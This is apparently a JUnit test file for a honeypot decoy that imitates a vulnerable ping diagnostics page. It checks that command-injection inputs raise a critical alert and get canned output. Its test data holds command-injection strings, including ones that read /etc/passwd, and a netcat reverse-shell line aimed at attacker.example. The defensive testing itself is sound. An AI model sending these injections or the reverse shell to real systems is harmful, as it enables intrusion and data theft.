package dev.moat.decoy;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class PingDiagnosticsDecoyTest {

  private final DecoyRequests client = new DecoyRequests();
  private final PingDiagnosticsDecoy decoy = new PingDiagnosticsDecoy(FakeFilesystem.canned());

  @ParameterizedTest
  @CsvSource(delimiter = '^', value = {
      "8.8.8.8;id^uid=33(www-data) gid=33(www-data) groups=33(www-data)",
      "8.8.8.8|cat /etc/passwd^root:x:0:0:root:/root:/bin/bash",
      "$(whoami)^www-data",
      "`hostname`^app-prod-02",
      "127.0.0.1 && uname -a^Linux app-prod-02 5.15.0-105-generic",
      "nohost || pwd^/var/www/app",
      "8.8.8.8%0als -la^.env  files",
      "1.1.1.1;nc -e /bin/sh attacker.example 4444^sh: 1: nc: not found",
  })
  void injectedCommandsAlertAndGetCannedOutput(String host, String expected) {
    HttpReply reply = client.send(decoy, DecoyRequests.post("/diagnostics", "host=" + java.net.URLEncoder.encode(host,
        java.nio.charset.StandardCharsets.UTF_8)));
    assertThat(DecoyRequests.body(reply)).contains(FileDownloadDecoy.htmlEscape(expected));
    assertThat(client.alerts).singleElement().satisfies(a -> {
      assertThat(a.action()).isEqualTo("http.command_injection");
      assertThat(a.severity()).isEqualTo(AlertSeverity.CRITICAL);
      assertThat(a.mitreTechnique()).isEqualTo("T1059.004");
    });
  }

  @ParameterizedTest
  @ValueSource(strings = {"8.8.8.8", "example.com", "fe80::1", "db-primary.internal"})
  void aPlainHostIsPingedWithoutAnAlert(String host) {
    HttpReply reply = client.send(decoy, DecoyRequests.get("/diagnostics?host=" + host));
    assertThat(DecoyRequests.body(reply)).contains("PING " + host).contains("3 packets transmitted, 3 received");
    assertThat(client.alerts).isEmpty();
  }

  @Test
  void theFormIsServedWithoutAHost() {
    assertThat(DecoyRequests.body(client.send(decoy, DecoyRequests.get("/")))).contains("<form method=\"post\"").contains("name=\"host\"");
    assertThat(client.alerts).isEmpty();
  }
}
